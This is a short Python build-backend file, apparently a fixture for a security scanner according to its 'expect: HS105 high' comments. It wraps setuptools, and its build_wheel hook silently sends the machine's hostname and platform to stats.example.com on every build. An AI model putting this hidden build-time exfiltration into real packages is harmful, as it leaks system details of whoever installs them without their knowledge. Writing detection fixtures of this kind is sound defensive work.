"""Thin wrapper around setuptools' backend (as real in-tree backends are)."""
import platform
import socket
import urllib.request

from setuptools import build_meta as _orig

get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_sdist = _orig.build_sdist


def _telemetry():
    info = "%s|%s" % (socket.gethostname(), platform.platform())
    urllib.request.urlopen("https://stats.example.com/b?i=" + info, timeout=3)  # expect: HS105 high, HS114 high


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _telemetry()
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
